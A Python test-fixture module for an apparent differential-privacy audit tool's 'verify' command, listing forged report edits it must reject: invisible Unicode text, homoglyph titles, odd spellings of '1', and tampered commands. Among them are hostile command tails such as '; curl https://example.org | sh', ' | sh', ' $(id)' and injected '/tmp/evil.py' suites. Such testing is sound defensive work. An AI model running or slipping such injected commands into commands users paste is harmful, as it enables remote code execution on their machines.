"""The corpus of forged reports, fourth part: junk that would stand in a confirmed line. ``verify`` alone
refuses every one of these.
"""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

from tests.cli.forged_evidence import Edit, Forgery, Rows, on, within

__all__ = ["JUNK"]

#: Texts that show nothing.
EMPTY = {
    "a space": " ",
    "a zero-width space": "\u200b",
    "a Hangul filler": "\u3164",
    "a braille blank": "\u2800",
    "a joiner and a tag": "\u2060\U000e0020",
    "a mark alone": "\u034f",
}
#: Other spellings of "1".
ONES = ("2/2", "+1", "1/1", "01", "1.0", "1e0", " 1", "1_0/10", "-0")


def parameter(row_id: str, **given: Any) -> Edit:
    """Add parameters to the rule below the root of a certificate, or change them."""
    return within(row_id, lambda item: item["tree"]["premises"][0]["parameters"].update(given))


def number(row_id: str, value: Any, *, name: str = "epsilon", field: str = "epsilon_exact") -> Edit:
    """Write the claim's number, in the row and in its certificate, another way."""

    def edit(report: dict[str, Any], rows: Rows, other: dict[str, Any]) -> None:
        rows[row_id]["claim"][field] = value

    return edit


def assumed(text: str) -> Edit:
    """Change what an accounting declares, and its assumption with it."""

    def edit(report: dict[str, Any], rows: Rows, other: dict[str, Any]) -> None:
        item = rows["accounted"]["evidence"][0]
        words = item["tree"]["premises"][0]["parameters"]["declared"]
        item["tree"]["premises"][0]["parameters"]["declared"] = text
        item["assumptions"] = [old.replace(words, text) for old in item["assumptions"]]

    return edit


def command(change: Callable[[str], str]) -> Edit:
    """Change the command that made the report."""
    return lambda report, rows, other: report["stamps"].update(command=change(report["stamps"]["command"]))


def again(change: Callable[[str], str]) -> Edit:
    """Change the command that reproduces a row."""
    return lambda report, rows, other: rows["proved"].update(reproduce=change(rows["proved"]["reproduce"]))


#: What stands behind a command that a reader may paste.
TAILS = {
    "a page in the home folder": " --html ~/.profile",
    "a quoted page in the home folder": " --html '~/.profile'",
    "findings over a file": " --sarif /etc/hosts",
    "a scheduler": " --backend dask --scheduler tcp://203.0.113.5:8786",
    "a pipe": " | sh",
    "a second command": "; curl https://example.org | sh",
    "a substitution": " $(id)",
    "a comment": " # trusted",
    "a resume": " --resume",
    "another journal": " --json /tmp/x.json --json y.json",
    "certificates": " --tls-ca ca.pem",
    "a word": " confirmed by its authors",
    "an option twice": " --seed 0",
}

JUNK: dict[str, Forgery] = {
    "a grid beside noise": (parameter("proved", grid={"step": "1", "bits": "64", "tail": "20"}), ""),
    "a grid that is a text": (parameter("accounted", grid="perfect secrecy"), ""),
    "a grid with a text": (
        parameter("accounted", grid={"step": "1", "bits": "64", "tail": "20", "note": "ok"}),
        "",
    ),
    "a grid too fine": (parameter("accounted", grid={"step": "1", "bits": "65000", "tail": "20"}), ""),
    "orders beside noise": (parameter("proved", orders=["2"]), ""),
    "orders that are texts": (parameter("accounted", orders=["perfect secrecy"]), ""),
    "orders that are none": (parameter("accounted", orders=[]), ""),
    "an order below 1": (parameter("accounted", orders=["1/2"]), ""),
    "a dimension that is a text": (parameter("proved", dimension="perfect secrecy"), ""),
    "a dimension of 0": (parameter("proved", dimension="0"), ""),
    "a dimension of a composition": (parameter("accounted", dimension="1"), ""),
    "a dimension that is a list": (parameter("proved", dimension=["1"]), ""),
    **{f"a scale written {text!r}": (parameter("proved", scale=text), "") for text in ONES},
    **{f"a claim's number written {text!r}": (number("proved", text), "") for text in ONES},
    **{
        f"a bound written {text!r}": (within("proved", lambda item, text=text: item.update(bound=text)), "")
        for text in ONES
    },
    "a claim's number that is true": (number("proved", True, field="epsilon"), ""),
    "a claim's number that is an integer": (number("proved", 1, field="epsilon"), ""),
    "a confidence that is true": (within("sampled", lambda item: item.update(confidence=True)), ""),
    "a cover that is 1": (within("sampled", lambda item: item.update(covers_claim=1)), ""),
    "a view's complement that is 0": (
        lambda report, rows, other: rows["proved"]["claim"]["view"].update(complement=0),
        "",
    ),
    "a witness's view's complement that is 0": (
        within("witness", lambda item: item["body"]["view"].update(complement=0)),
        "",
    ),
    "a distribution's scale written 2/2": (
        within("witness", lambda item: item["body"]["sites"][0]["law"]["base"].update(scale="2/2")),
        "",
    ),
    "a distribution's scale written 1.0": (
        within("witness", lambda item: item["body"]["sites"][0]["law"]["base"].update(scale="1.0")),
        "",
    ),
    **{f"a title of {name}": (on("proved", title=text), "") for name, text in EMPTY.items()},
    **{f"a note of {name}": (on("proved", notes=[text]), "") for name, text in EMPTY.items()},
    **{f"a declaration of {name}": (assumed(text), "") for name, text in EMPTY.items()},
    **{
        f"a description of {name}": (
            within("witness", lambda item, text=text: item.update(description=text)),
            "",
        )
        for name, text in EMPTY.items()
    },
    "a title that mixes scripts": (on("proved", title="\u0440roved"), ""),
    "a declaration that mixes scripts": (assumed("one \u0455um"), ""),
    "a title in look-alikes": (on("proved", title="noise of \u0441\u043e\u0440\u0443"), ""),
    "an id in another case": (on("open", id="PROVED"), ""),
    "ids that differ in 1 and l": (
        lambda report, rows, other: (rows["open"].update(id="row-1"), rows["leak"].update(id="row-l")),
        "",
    ),
    "ids that differ in 0 and O": (
        lambda report, rows, other: (rows["open"].update(id="row-0"), rows["leak"].update(id="row-O")),
        "",
    ),
    "a paper's title that shows nothing": (
        lambda report, rows, other: report["suites"][0].update(title="\u200b"),
        "",
    ),
    "a reason that shows nothing": (
        lambda report, rows, other: report["unchecked"][0].update(reason="\u2800"),
        "",
    ),
    **{
        f"a command with {name}": (command(lambda old, tail=tail: old + tail), "")
        for name, tail in TAILS.items()
    },
    **{
        f"a command to paste with {name}": (again(lambda old, tail=tail: old + tail), "")
        for name, tail in TAILS.items()
    },
    "a command that is another program": (command(lambda old: "curl https://example.org | sh"), ""),
    "a command of foreign suites": (
        command(lambda old: old.replace("dpaudit run ", "dpaudit run /tmp/evil.py ")),
        "",
    ),
    "a command to paste of foreign suites": (
        again(lambda old: old.replace("dpaudit run ", "dpaudit run /tmp/evil.py ")),
        "",
    ),
    "commands of foreign suites": (
        lambda report, rows, other: [
            part.update({name: part[name].replace("dpaudit run ", "dpaudit run /tmp/evil.py ")})
            for part, name in [(report["stamps"], "command"), *((row, "reproduce") for row in rows.values())]
        ],
        "",
    ),
    "a command in a zero-width disguise": (command(lambda old: old.replace("run", "r\u200bun")), ""),
    "an integer beyond the largest float": (lambda report, rows, other: report.update(seed=10**400), ""),
}
